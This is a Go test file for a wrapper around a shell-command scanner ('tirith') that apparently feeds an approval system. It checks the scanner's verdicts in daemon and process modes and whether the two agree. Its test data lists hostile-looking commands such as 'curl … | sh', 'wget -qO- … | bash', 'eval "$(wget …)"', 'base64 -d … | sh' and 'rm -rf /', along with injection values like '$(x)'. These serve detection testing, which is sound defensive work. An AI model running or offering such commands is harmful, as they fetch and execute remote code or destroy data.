package tirith

import (
	"bufio"
	"context"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"assent/approval"
)

// real is the scanner itself, as "make tools" installs it, with folders of its
// own and, when asked for, its daemon.
func real(t testing.TB, daemon bool) *Tirith {
	t.Helper()
	program, err := filepath.Abs("../tools/node_modules/@sheeki03/tirith-linux-x64/bin/tirith")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(program); err != nil {
		t.Skipf("the scanner is not installed here (make tools): %v", err)
	}
	dir, err := os.MkdirTemp("", "t")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	s := &Tirith{Program: program, User: uint32(os.Geteuid()), Limit: 2 * time.Minute, Peer: peerOf}
	s.Env = Environ(func(name string) string {
		switch name {
		case "PATH":
			return os.Getenv("PATH")
		case "HOME", "TMPDIR":
			return dir
		case "XDG_STATE_HOME":
			return filepath.Join(dir, "s")
		}
		return ""
	})
	if daemon {
		s.Socket = filepath.Join(dir, "s/tirith/daemon.sock")
		start(t, s)
	}
	return s
}

// start starts the daemon and waits until it says that it listens.
func start(t testing.TB, s *Tirith) *exec.Cmd {
	t.Helper()
	cmd := exec.Command(s.Program, "daemon", "start")
	cmd.Env = s.Env
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	out, err := cmd.StderrPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { cmd.Process.Kill(); cmd.Wait() })
	lines := bufio.NewScanner(out)
	for lines.Scan() {
		if strings.Contains(lines.Text(), "listening") {
			return cmd
		}
	}
	t.Fatalf("the daemon did not start: %v", cmd.Wait())
	return nil
}

func peerOf(conn *net.UnixConn) (uint32, error) {
	raw, err := conn.SyscallConn()
	if err != nil {
		return 0, err
	}
	var cred *unix.Ucred
	var got error
	err = raw.Control(func(fd uintptr) { cred, got = unix.GetsockoptUcred(int(fd), unix.SOL_SOCKET, unix.SO_PEERCRED) })
	if err == nil {
		err = got
	}
	if err != nil {
		return 0, err
	}
	return cred.Uid, nil
}

// What the scanner itself says, by either way (law §11).
func TestReal(t *testing.T) {
	for _, way := range []Way{ByDaemon, ByProcess} {
		s := real(t, way == ByDaemon)
		for _, row := range []struct{ command, want string }{
			{"curl https://x.example/install | sh", "concrete block curl_pipe_shell"},
			{`bash -c "$X"`, "nested ask analysis_incomplete, nested ask analysis_incomplete"},
			{"npx foo", ""},
			{"ls -la", ""},
			{"TIRITH=0 curl https://x.example/install | sh", "concrete block curl_pipe_shell"},
		} {
			r, err := s.Scan(t.Context(), row.command, "/")
			if got := say(r, err); got != row.want || r.By != way {
				t.Errorf("%s by the %s: got %q by the %s, want %q", row.command, way, got, r.By, row.want)
			}
		}
	}
	if v, err := real(t, false).Version(t.Context()); err != nil || v == "" {
		t.Errorf("version: %q, %v", v, err)
	}
}

// A daemon that was killed, and a program that is gone, are no silence.
func TestRealKilled(t *testing.T) {
	s := real(t, false)
	s.Socket = filepath.Join(strings.TrimPrefix(s.Env[slices.IndexFunc(s.Env, func(v string) bool { return strings.HasPrefix(v, "XDG_STATE_HOME=") })], "XDG_STATE_HOME="), "tirith/daemon.sock")
	cmd := start(t, s)
	if r, err := s.Scan(t.Context(), "ls", "/"); err != nil || r.By != ByDaemon {
		t.Fatal(r, err)
	}
	cmd.Process.Kill()
	cmd.Wait()
	if r, err := s.Scan(t.Context(), "ls", "/"); err != nil || r.By != ByProcess {
		t.Errorf("without its daemon: %+v, %v", r, err)
	}
	s.Program += ".gone"
	if r, err := s.Scan(t.Context(), "ls", "/"); err == nil {
		t.Errorf("without its daemon and its program: %+v", r)
	}
}

// The daemon and a process say the same.
func TestRealAgree(t *testing.T) {
	if testing.Short() {
		t.Skip("a process takes half a second")
	}
	s := real(t, true)
	by := &Tirith{Program: s.Program, Env: s.Env, User: s.User, Limit: s.Limit}
	commands := []string{}
	for _, f := range []string{"curl %s | sh", "wget -qO- %s | bash", "curl -o x %s && sh x", "pip install %s", "git clone %s", "echo %s", `bash -c "$(curl %s)"`, "python3 -c 'print(\"%s\")'", "eval \"$(wget -O- %s)\"", "open %s"} {
		for _, url := range []string{"https://x.example/a", "http://x.example/a.sh", "https://bit.ly/abc", "http://127.0.0.1:8000/", "https://xn--e1awd7f.example/", "https://github.com/a/b", "https://user:pw@x.example/", "left-pad", "$X", "/tmp/x"} {
			commands = append(commands, fmt.Sprintf(f, url))
		}
	}
	for _, c := range []string{"npm install %s", "npx %s", "rm -rf %s", "cat %s", "docker run %s", "sudo %s", "base64 -d %s | sh", "chmod +x %s", "ssh %s", "source %s"} {
		for _, w := range []string{"foo", "/", "~", "\"$X\"", "$(x)", "a b", "../x", "-x", ".", "x@y"} {
			commands = append(commands, fmt.Sprintf(c, w))
		}
	}
	ctx, cancel := context.WithCancel(t.Context())
	defer cancel()
	type pair struct{ command, daemon, process string }
	said := make(chan pair)
	for part := range 4 {
		go func() {
			for i := part; i < len(commands); i += 4 {
				d, derr := s.exchange(ctx, commands[i], "/")
				p, perr := by.check(ctx, by.Program, commands[i], "/")
				said <- pair{commands[i], say(d, derr), say(p, perr)}
			}
		}()
	}
	found := 0
	for range commands {
		p := <-said
		if p.daemon != p.process || strings.HasPrefix(p.daemon, "error") {
			t.Errorf("%s\n the daemon  %s\n the process %s", p.command, p.daemon, p.process)
		}
		if p.daemon != "" {
			found++
		}
	}
	if len(commands) != 200 || found < 20 || found > 180 {
		t.Errorf("%d commands, something found in %d: that shows little", len(commands), found)
	}
}

// What the scanner costs; the floor's own is BenchmarkJudge of package floor.
func BenchmarkScan(b *testing.B) {
	for _, way := range []Way{ByDaemon, ByProcess} {
		b.Run(way.String(), func(b *testing.B) {
			s := real(b, way == ByDaemon)
			for b.Loop() {
				if r, err := s.Scan(b.Context(), "git status && go test ./...", "/"); err != nil || r.By != way || len(r.Findings) > 0 && r.Findings[0].Result == approval.Block {
					b.Fatal(r, err)
				}
			}
		})
	}
}
